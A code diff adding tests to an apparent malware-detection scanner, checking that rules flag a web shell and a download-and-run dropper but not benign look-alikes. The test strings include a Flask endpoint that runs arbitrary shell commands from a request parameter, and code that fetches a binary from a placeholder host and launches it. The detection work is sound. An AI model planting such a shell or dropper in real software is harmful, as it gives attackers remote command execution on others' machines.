@@ -127,3 +127,41 @@ def test_launching_a_download_versus_opening_a_document() -> None:
     assert "PV-BEH-LAUNCH" in ids(run(R, bad))
     benign = py("import os\ndef launch(path):\n    os.startfile(path)\n")
     assert run(R, benign) == []
+
+
+def test_web_shell_versus_ordinary_web_app() -> None:
+    bad = py(
+        "import subprocess\n"
+        "from flask import Flask, request\n"
+        "app = Flask(__name__)\n"
+        "@app.route('/x')\n"
+        "def x():\n"
+        "    return subprocess.Popen(request.args.get('c'), shell=True, stdout=-1).stdout.read()\n"
+        "app.run(host='0.0.0.0', port=54689)\n"
+    )
+    found = run(R, bad)
+    assert [f.rule for f in found] == ["PV-BEH-REVSHELL"]
+    assert found[0].severity is Severity.HIGH
+    benign = py(
+        "from flask import Flask, request\n"
+        "app = Flask(__name__)\n"
+        "@app.route('/x')\n"
+        "def x():\n"
+        "    return request.args.get('name', '')\n"
+        "if __name__ == '__main__':\n"
+        "    app.run(host='127.0.0.1')\n"
+    )
+    assert run(R, benign) == []
+
+
+def test_start_command_on_a_download() -> None:
+    bad = py(
+        "import os, urllib.request\n"
+        "def drop():\n"
+        "    path = os.getenv('TEMP') + '\\\\Bin.exe'\n"
+        "    open(path, 'wb').write(urllib.request.urlopen('https://x.example/b').read())\n"
+        "    os.system(f'start {path}')\n"
+    )
+    assert "PV-BEH-LAUNCH" in ids(run(R, bad))
+    benign = py("import os\ndef open_docs():\n    os.system('start https://docs.example/')\n")
+    assert run(R, benign) == []
